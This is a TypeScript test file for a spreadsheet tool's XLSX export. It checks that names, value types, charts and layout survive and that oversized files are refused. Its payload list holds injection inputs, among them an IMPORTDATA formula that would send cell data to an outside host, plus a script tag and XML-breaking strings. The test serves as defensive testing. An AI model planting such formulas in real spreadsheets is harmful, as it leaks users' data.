// Tests names, types of values, and a user's sheet with more than cells, in an XLSX file of a document.
import { describe, expect, test } from "vitest";
import { documentXlsx } from "../../workbench/files/documentXlsx";
import { tabNames } from "../../workbench/files/xlsxText";
import { memoryGrid } from "../../workbench/host/memoryGrid";
import type { HostCell, SheetSetup } from "../../workbench/host/spreadsheetSetup";
import { oneSheet, openDocument, run } from "../whole/documentDriver";
import { furnishedShop } from "../whole/furnishedShop";
import { refusalFrom } from "./scoreFixtures";
import { checkWellFormed, compareLayout, compareTab, load, partsOf, rowsOf, shownSheets } from "./xlsxReading";

const payloads = [
  '=IMPORTDATA("https://example.com/?q="&A1)',
  '=HYPERLINK("http://x","y")',
  "=1+1",
  "+8613800000000",
  "-1+1",
  "@SUM(A1)",
  "'quoted",
  "007",
  "1-2",
  "1e5",
  "TRUE",
  "2024-01-01",
  "\t=1+1",
  "</t></si><x>",
  "<script>alert(1)</script>",
  "&amp;&#61;1",
  ']]>"--',
  "_x0041_",
  "_x000D_=1",
  "a\u0007b",
  "a\u0000b",
  "line\nbreak",
  "cr\r\nlf",
  " space ",
  "\uD800 half",
  "\uFFFF",
  "张三",
  "👩‍👩‍👧",
  "\u202Eevil",
  "__proto__",
  "#REF!",
  "{=1}",
  "%0A=1",
];

describe("names", () => {
  test("of customers come back as the very texts they were, in every tab, and no cell of the file is a formula", async () => {
    const rows = payloads.map((name, place): HostCell[] => [name, { day: 45_300 + place }, 10 + place]);
    const host = openDocument(oneSheet([["Customer", "Date", "Amount"], ...rows]));
    run(host);
    const bytes = await documentXlsx(host.grid);
    const workbook = await load(bytes);
    for (const [place, sheet] of shownSheets(host.grid).entries()) compareTab(workbook.worksheets[place]!, sheet);
    const names = rowsOf(workbook.getWorksheet("Orders")!).map((row) => row[0]);
    expect(names.slice(1)).toEqual(payloads);
    expect(rowsOf(workbook.getWorksheet("Customers")!).length).toBeGreaterThan(30);
    for (const [path, xml] of await partsOf(bytes)) {
      checkWellFormed(xml);
      if (path.startsWith("xl/worksheets/")) expect(xml).not.toMatch(/<f[ >]/);
    }
  });

  test("of tiers stay names inside the charts", async () => {
    const host = openDocument(
      oneSheet([
        ["Customer", "Date", "Amount"],
        ...["a", "b", "c", "d"].map((name, i): HostCell[] => [name, { day: 45_300 + i }, i + 1]),
      ]),
    );
    run(host, {
      scheme: [
        ["Tier", "R", "F", "M"],
        ['=A1&"<b>', "4-5", "1-5", "1-5"],
        ["'@rest\u0007", "1-3", "1-5", "1-5"],
      ],
    });
    const bytes = await documentXlsx(host.grid);
    const chart = (await partsOf(bytes)).get("xl/charts/chart1.xml") ?? "";
    checkWellFormed(chart);
    expect(chart).toContain("<c:v>=A1&amp;&quot;&lt;b&gt;</c:v>");
    await load(bytes);
  });

  test("of tabs are made to fit a file, stay different, and formulas follow", async () => {
    const long = `${"x".repeat(30)}👍 long`;
    const names = [long, `${"x".repeat(30)}_`, "a/b*c?", "A_b_c_", "'q'", "History", "=1+1", "<&>", "\u0007"];
    const fitting = tabNames(names);
    expect(fitting).toEqual([
      `${"x".repeat(30)}`,
      `${"x".repeat(30)}_`,
      "a_b_c_ (2)",
      "A_b_c_",
      "_q_",
      "History_",
      "=1+1",
      "<&>",
      "_",
    ]);
    const sheets = names.map((name): SheetSetup => ({ name, cells: [[1]] }));
    const formulas = { name: "F", cells: [[{ formula: "='a/b*c?'!A1+A_b_c_!A1", value: 2 }]] };
    const grid = memoryGrid({ name: "Shop", zone: "Etc/UTC", locale: "en_US", sheets: [...sheets, formulas] });
    const workbook = await load(await documentXlsx(grid));
    expect(workbook.worksheets.map((tab) => tab.name)).toEqual([...fitting, "F"]);
    expect(workbook.getWorksheet("F")!.getCell("A1").value).toEqual({ formula: "'a_b_c_ (2)'!A1+A_b_c_!A1", result: 2 });
  });
});

describe("a document of the user's", () => {
  test("keeps formulas with their values, notes, merges, sizes, hidden lines, colour scale; hidden tabs are left out", async () => {
    const grid = memoryGrid(furnishedShop);
    const bytes = await documentXlsx(grid);
    const workbook = await load(bytes);
    expect(workbook.worksheets.map((tab) => tab.name)).toEqual(["Orders", "My tab"]);
    for (const [place, sheet] of shownSheets(grid).entries()) {
      compareTab(workbook.worksheets[place]!, sheet);
      compareLayout(workbook.worksheets[place]!, sheet);
    }
    const orders = workbook.getWorksheet("Orders")!;
    expect(orders.getCell("C10").value).toEqual({ formula: "SUM(C2:C9)", result: 360 });
    expect(orders.getCell("A3").note).toBe("Ask for the address");
    expect(orders.getCell("F12").master.address).toBe("E11");
    expect([orders.getRow(11).hidden, orders.getColumn(5).hidden, orders.getRow(1).height]).toEqual([true, true, 22.5]);
    expect(orders.properties.tabColor).toEqual({ argb: "FFFF0000" });
    const sheet = (await partsOf(bytes)).get("xl/worksheets/sheet1.xml");
    expect(sheet).toContain(
      '<conditionalFormatting sqref="C2:C9"><cfRule type="colorScale" priority="2"><colorScale><cfvo type="min"/><cfvo type="max"/><color rgb="FFFFFFFF"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>',
    );
  });

  test("a standing chart beside notes keeps its corner and size, a pie is left out, and one part ties to each", async () => {
    const [orders, tab, ...rest] = furnishedShop.sheets;
    const chart = {
      type: "COLUMN",
      ranges: ["Orders!A1:A9", "Orders!C1:C9"],
      row: 2,
      column: 5,
      headers: 1,
      options: { title: "Sales & <more>", width: 400, height: 300 },
    };
    const grid = memoryGrid({ ...furnishedShop, sheets: [{ ...orders!, charts: [chart] }, tab!, ...rest] });
    const bytes = await documentXlsx(grid);
    const parts = await partsOf(bytes);
    expect([...parts.keys()].filter((path) => /charts\/|drawings\/drawing/.test(path))).toEqual([
      "xl/charts/chart1.xml",
      "xl/drawings/drawing1.xml",
    ]);
    for (const path of ["xl/charts/chart1.xml", "xl/drawings/drawing1.xml"]) checkWellFormed(parts.get(path) ?? "<");
    expect(parts.get("xl/charts/chart1.xml")).toMatch(/<a:t>Sales &amp; &lt;more&gt;<.*<c:barDir val="col"\/>/);
    expect(parts.get("xl/drawings/drawing1.xml")).toMatch(/<xdr:col>4<.*<xdr:row>1<.*cx="3810000" cy="2857500"/);
    expect(parts.get("xl/worksheets/sheet1.xml")).toMatch(/<drawing r:id="rIdDrawing"\/><legacyDrawing /);
    const ids = [...(parts.get("xl/worksheets/_rels/sheet1.xml.rels") ?? "").matchAll(/Id="([^"]+)"/g)].map(([, id]) => id);
    expect(new Set(ids).size).toBe(ids.length);
    expect((await load(bytes)).getWorksheet("Orders")!.getCell("A3").note).toBeDefined();
  });

  test("values keep their types; an error that no file knows is shown as text", async () => {
    const cells: HostCell[][] = [
      [0, -1.5, 1e21, true, false, "true", "12"],
      [{ error: "#N/A" }, { error: "#ERROR!" }, { day: 45_300.5 }, { day: 45_300, format: "dd.mm.yyyy" }, null, "", "x"],
      [
        { formula: "=1/0", value: { error: "#DIV/0!" } },
        { formula: '="a"&"<"', value: "a<" },
        { formula: "=TRUE()", value: true },
      ],
    ];
    const grid = memoryGrid(oneSheet(cells));
    const rows = rowsOf((await load(await documentXlsx(grid))).worksheets[0]!);
    expect(rows[0]).toEqual([0, -1.5, 1e21, true, false, "true", "12"]);
    expect(rows[1]).toEqual([{ error: "#N/A" }, "#ERROR!", 45_300.5, 45_300, null, null, "x"]);
    expect(rows[2]?.slice(0, 3)).toEqual(cells[2]);
  });

  test("a text that no file can hold is refused in one sentence with its place", async () => {
    const grid = memoryGrid(oneSheet([["Name"], ["x".repeat(32_768)]]));
    expect(await refusalFrom(() => documentXlsx(grid))).toBe(
      'Row 2 of the tab "Orders" has a text of 32768 characters, and an XLSX file holds at most 32767 in a cell.',
    );
  });

  test.each([
    [1_048_577, 1, 'The tab "Orders" has 1048577 rows, and an XLSX file holds at most 1048576.'],
    [1_000_000, 3, /^The document has 3000000 cells, .* at most 2500000 into an XLSX file; write a CSV file instead\.$/],
  ])("of %i rows and %i columns is refused in one sentence before the memory runs out", async (rows, columns, sentence) => {
    const grid = memoryGrid({
      ...furnishedShop,
      sheets: [{ name: "Orders", cells: [["Name"]], rows, columns }],
      namedRanges: [],
    });
    const last = { row: rows, column: 1, rows: 1, columns };
    grid.activeSheet().writeContents(
      last,
      Array.from({ length: columns }, () => ["x"]),
    );
    expect(await refusalFrom(() => documentXlsx(grid))).toMatch(sentence);
  });
});
